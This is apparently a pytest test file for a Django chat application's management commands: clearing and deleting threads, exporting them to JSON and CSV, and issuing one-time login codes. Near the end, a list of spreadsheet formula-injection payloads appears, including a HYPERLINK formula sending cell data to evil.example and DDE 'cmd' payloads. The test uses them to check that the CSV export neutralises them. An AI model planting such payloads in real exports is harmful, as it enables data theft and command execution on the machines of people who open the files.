"""clear_threads, export_threads and issue_login_code through call_command (the test database)."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from accounts import otp
from chat import services, signals
from chat.management.commands import export_threads
from chat.models import Message, TelegramLink, Thread
from chat.validation import MessageInput

pytestmark = pytest.mark.django_db


def post(
    thread: Thread,
    text: str | None = None,
    sender: str = "visitor",
    type: str = "text",
    file_url: str | None = None,
    client_id: str | None = None,
) -> Message:
    data = MessageInput(thread_id=thread.id, type=type, text=text, file_url=file_url, client_id=client_id)
    if sender == "visitor":
        return services.post_visitor_message(data, via="test")[0]
    return services.post_admin_message(data, via="test")[0]


def run(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def heard():
    events: list[tuple] = []

    def cleared(sender, thread_id, **kwargs):
        events.append(("cleared", str(thread_id)))

    def deleted(sender, thread_ids, **kwargs):
        events.append(("deleted", sorted(str(t) for t in thread_ids)))

    def everything(sender, **kwargs):
        events.append(("all",))

    signals.thread_cleared.connect(cleared)
    signals.threads_deleted.connect(deleted)
    signals.all_cleared.connect(everything)
    yield events
    signals.thread_cleared.disconnect(cleared)
    signals.threads_deleted.disconnect(deleted)
    signals.all_cleared.disconnect(everything)


@pytest.fixture
def threads():
    fresh = services.create_thread("Fresh Fatma")
    post(fresh, "yeni mesaj")
    post(fresh, "cevap", sender="admin", client_id="c-1")
    old = services.create_thread("Old Osman")
    post(old, "eski mesaj")
    post(old, type="image", file_url="/uploads/images/old.png")
    TelegramLink.objects.create(chat_id=-1001, message_id=7, thread=old)
    Thread.objects.filter(pk=old.pk).update(last_activity_at=timezone.now() - timedelta(days=40))
    never = services.create_thread("Never Nuri")
    Thread.objects.filter(pk=never.pk).update(
        last_activity_at=None, created_at=timezone.now() - timedelta(days=100)
    )
    return {"fresh": fresh, "old": old, "never": never}


# --- clear_threads ---------------------------------------------------------------------


def test_clear_one_thread_keeps_it_and_tells_clients(threads, heard):
    fresh = threads["fresh"]
    output = run("clear_threads", "--thread", str(fresh.pk), "--yes")
    assert "Cleared 2 message(s) from 1 thread(s)." in output
    assert fresh.messages.count() == 0
    assert Thread.objects.filter(pk=fresh.pk).exists()
    assert threads["old"].messages.count() == 2
    assert heard == [("cleared", str(fresh.pk))]


def test_clear_several_threads(threads, heard):
    run("clear_threads", "--thread", str(threads["fresh"].pk), "--thread", str(threads["old"].pk), "-y")
    assert Message.objects.count() == 0 and Thread.objects.count() == 3
    assert sorted(heard) == sorted(
        [("cleared", str(threads["fresh"].pk)), ("cleared", str(threads["old"].pk))]
    )


def test_dry_run_changes_nothing_and_lists_what_would_go(threads, heard):
    output = run("clear_threads", "--older-than", "30", "--dry-run")
    assert "Would delete 2 thread(s) holding 2 message(s)" in output
    assert "Old Osman" in output and "Never Nuri" in output and "Fresh Fatma" not in output
    assert "Dry run: nothing was changed." in output
    for flags in (["--all"], ["--thread", str(threads["fresh"].pk)], ["--older-than", "0", "--keep-threads"]):
        run("clear_threads", *flags, "--dry-run")
    assert Thread.objects.count() == 3 and Message.objects.count() == 4 and TelegramLink.objects.count() == 1
    assert heard == []


def test_older_than_deletes_whole_threads_by_last_activity(threads, heard):
    output = run("clear_threads", "--older-than", "30", "--yes")
    assert "Deleted 2 thread(s)" in output
    assert list(Thread.objects.values_list("display_name", flat=True)) == ["Fresh Fatma"]
    assert TelegramLink.objects.count() == 0
    assert heard == [("deleted", sorted([str(threads["old"].pk), str(threads["never"].pk)]))]


def test_older_than_keep_threads_clears_messages_only(threads, heard):
    run("clear_threads", "--older-than", "30", "--keep-threads", "--yes")
    assert Thread.objects.count() == 3
    assert threads["old"].messages.count() == 0 and threads["fresh"].messages.count() == 2
    assert sorted(heard) == sorted(
        [("cleared", str(threads["old"].pk)), ("cleared", str(threads["never"].pk))]
    )


def test_all_deletes_everything_like_the_panel(threads, heard):
    output = run("clear_threads", "--all", "--yes")
    assert "Deleted everything: 3 thread(s), 4 message(s)." in output
    assert Thread.objects.count() == 0 and Message.objects.count() == 0 and TelegramLink.objects.count() == 0
    assert heard == [("all",)]


def test_nothing_to_do(threads):
    assert "Nothing to do." in run("clear_threads", "--older-than", "1000", "--yes")
    assert Thread.objects.count() == 3


@pytest.mark.parametrize(
    ("args", "returncode", "text"),
    [
        (["--thread", "not-a-uuid", "--yes"], 2, "is not a thread id"),
        (["--thread", str(uuid.uuid4()), "--yes"], 1, "No such thread"),
        (["--all", "--keep-threads", "--thread", "x"], None, "not allowed with argument"),
        (["--thread", "{fresh}", "--keep-threads", "--yes"], 2, "--keep-threads goes with"),
        (["--older-than", "-1", "--yes"], 2, "0 or more"),
        (["--all"], 2, "stdin is not a terminal"),
        ([], None, "one of the arguments"),
    ],
)
def test_clear_refuses_bad_usage_and_changes_nothing(threads, args, returncode, text):
    args = [a.replace("{fresh}", str(threads["fresh"].pk)) for a in args]
    with pytest.raises(CommandError) as error:
        run("clear_threads", *args)
    assert text in str(error.value)
    if returncode is not None:
        assert error.value.returncode == returncode
    assert Thread.objects.count() == 3 and Message.objects.count() == 4


# --- export_threads --------------------------------------------------------------------


def as_dict(obj) -> dict:
    """Every exported field of `obj` (the export leaves out derived and internal ones)."""
    return {
        f.attname: getattr(obj, f.attname)
        for f in obj._meta.concrete_fields
        if f.attname not in export_threads.INTERNAL_FIELDS
    }


def parse_time(value: str | None):
    return datetime.fromisoformat(value) if value else None


def revive(model, data: dict) -> dict:
    """An exported row (JSON values, or CSV text) back as the model's field values, by each
    field's type, so new fields round-trip without changing this test."""
    revived = dict(data)
    for field in model._meta.concrete_fields:
        if field.attname in export_threads.INTERNAL_FIELDS:
            continue
        value = data.get(field.attname)
        kind = (field.target_field if field.is_relation else field).get_internal_type()
        if value is None:
            if not field.null and kind in ("CharField", "TextField", "EmailField"):
                revived[field.attname] = ""  # an empty CSV cell of a text that is never null
            continue
        if kind == "DateTimeField":
            revived[field.attname] = parse_time(value)
        elif kind == "UUIDField":
            revived[field.attname] = uuid.UUID(value)
        elif kind in (
            "IntegerField",
            "PositiveIntegerField",
            "BigIntegerField",
            "SmallIntegerField",
            "PositiveSmallIntegerField",
            "PositiveBigIntegerField",
            "AutoField",
            "BigAutoField",
        ):
            revived[field.attname] = int(value)
        elif kind == "BooleanField" and isinstance(value, str):
            revived[field.attname] = value == "True"
        elif kind == "JSONField" and isinstance(value, str):
            revived[field.attname] = json.loads(value)  # a CSV cell carries it as JSON text
    return revived


def revive_thread(data: dict) -> dict:
    return revive(Thread, data)


def revive_message(data: dict) -> dict:
    return revive(Message, data)


def db_snapshot(threads=None):
    qs = (
        Thread.objects.order_by("id")
        if threads is None
        else Thread.objects.filter(pk__in=threads).order_by("id")
    )
    return [
        {**as_dict(t), "messages": [as_dict(m) for m in t.messages.order_by("created_at", "id")]} for t in qs
    ]


def test_export_json_round_trips_every_field(threads):
    data = json.loads(run("export_threads"))
    revived = [{**revive_thread(t), "messages": [revive_message(m) for m in t["messages"]]} for t in data]
    assert revived == db_snapshot()
    assert {t["display_name"] for t in data} == {"Fresh Fatma", "Old Osman", "Never Nuri"}
    assert data[0]["created_at"].endswith("+00:00")


def test_export_csv_round_trips_every_field(threads, tmp_path):
    target = tmp_path / "export.csv"
    call_command("export_threads", "--format", "csv", "--output", str(target), stderr=io.StringIO())
    with open(target, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 5, "four messages, and one row for the thread without messages"

    def cell(value):
        return None if value == "" else value

    rebuilt: dict[uuid.UUID, dict] = {}
    for r in rows:
        thread = {k.removeprefix("thread_"): cell(v) for k, v in r.items() if k.startswith("thread_")}
        thread["id"] = thread.pop("id")
        thread["has_messages"] = thread["has_messages"] == "True"
        entry = rebuilt.setdefault(uuid.UUID(thread["id"]), {**revive_thread(thread), "messages": []})
        if r["message_id"]:
            message = {k.removeprefix("message_"): cell(v) for k, v in r.items() if k.startswith("message_")}
            message["thread_id"] = thread["id"]
            entry["messages"].append(revive_message(message))
    snapshot = db_snapshot()
    for got, want in zip(rebuilt.values(), snapshot, strict=True):
        assert {k: v for k, v in got.items() if v != want.get(k)} == {}, want
    assert list(rebuilt.values()) == snapshot


def test_export_selected_threads_and_since(threads):
    old = threads["old"]
    data = json.loads(run("export_threads", "--thread", str(old.pk)))
    assert [t["display_name"] for t in data] == ["Old Osman"]
    assert len(data[0]["messages"]) == 2
    recent = (timezone.localdate() - timedelta(days=5)).isoformat()
    assert [t["display_name"] for t in json.loads(run("export_threads", "--since", recent))] == [
        "Fresh Fatma"
    ]
    since_old = (timezone.now() - timedelta(days=50)).isoformat()
    names = {t["display_name"] for t in json.loads(run("export_threads", "--since", since_old))}
    assert names == {"Fresh Fatma", "Old Osman"}
    assert json.loads(run("export_threads", "--since", "2999-01-01")) == []
    assert run("export_threads", "--format", "csv", "--thread", str(uuid.uuid4())).count("\n") == 1


@pytest.mark.parametrize(
    ("args", "returncode", "text"),
    [
        (["--since", "yesterday"], 2, "is not a date"),
        (["--since", "2024-13-45"], 2, "is not a date"),
        (["--thread", "nope"], 2, "thread id"),
        (["--output", "/nonexistent-dir/x.json"], 1, "Cannot write"),
        (["--format", "xml"], None, "invalid choice"),
    ],
)
def test_export_refuses_bad_usage(threads, args, returncode, text):
    with pytest.raises(CommandError) as error:
        run("export_threads", *args)
    assert text in str(error.value)
    if returncode is not None:
        assert error.value.returncode == returncode


class CountingSink(io.TextIOBase):
    """Swallows the export, keeping only how much was written."""

    def __init__(self):
        self.chars = 0

    def write(self, s):
        self.chars += len(s)
        return len(s)


def seed_messages(count: int) -> None:
    threads = [Thread(display_name=f"bulk {i}", last_activity_at=timezone.now()) for i in range(count // 100)]
    Thread.objects.bulk_create(threads)
    text = "x" * 200
    batch = [
        Message(thread=threads[i % len(threads)], sender="visitor", type="text", content_text=text)
        for i in range(count)
    ]
    Message.objects.bulk_create(batch, batch_size=5000)


def export_peak(fmt: str) -> tuple[int, int]:
    sink = CountingSink()
    tracemalloc.start()
    try:
        call_command("export_threads", "--format", fmt, stdout=sink)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, sink.chars


@pytest.mark.slow
def test_export_memory_stays_constant():
    seed_messages(5_000)
    small, _ = export_peak("json")
    seed_messages(25_000)
    big, written = export_peak("json")
    assert written > 30_000 * 200, "all 30,000 messages were written"
    # Six times the messages, about the same peak: only a chunk of rows is ever held
    # (the whole export would be over 7 MB of text, the rows as Python objects far more).
    assert big < small * 1.3 + 256 * 1024, (small, big)
    assert big < 4 * 1024 * 1024, big


# --- issue_login_code ------------------------------------------------------------------


def test_issue_login_code_prints_a_working_code():
    code = run("issue_login_code").strip()
    assert len(code) == 6 and code.isdigit()
    # An operator's code belongs to no browser session: any session may use it, once.
    assert otp.verify_code("some-session-key", code) is otp.Verdict.OK
    assert otp.verify_code(None, code) is otp.Verdict.NOT_REQUESTED, "single use"


def test_timestamps_are_utc_iso(threads):
    data = json.loads(run("export_threads", "--thread", str(threads["fresh"].pk)))
    created = datetime.fromisoformat(data[0]["messages"][0]["created_at"])
    assert created.tzinfo == UTC


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_export_csv_defuses_formulas_and_says_so(tmp_path, capsys):
    thread = services.create_thread("=1+2")
    for text in FORMULAS:
        post(thread, text)
    post(thread, "safe = text, 2+2 and a@b")
    target = tmp_path / "export.csv"
    call_command("export_threads", "--format", "csv", "--output", str(target), stderr=io.StringIO())
    with open(target, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["message_content_text"] for r in rows] == ["'" + text for text in FORMULAS] + [
        "safe = text, 2+2 and a@b"
    ]
    assert {r["thread_display_name"] for r in rows} == {"'=1+2"}
    # Times and ids are not visitors' words: left as they are.
    assert all(r["thread_created_at"][:2] == "20" and r["message_created_at"][:2] == "20" for r in rows)
    # JSON carries the words as they are.
    exported = json.loads(run("export_threads"))
    assert [m["content_text"] for m in exported[0]["messages"]][:-1] == FORMULAS
    # The rule is in the command's help.
    with pytest.raises(SystemExit):
        call_command("export_threads", "--help")
    assert "gets a leading single quote (')" in " ".join(capsys.readouterr().out.split())
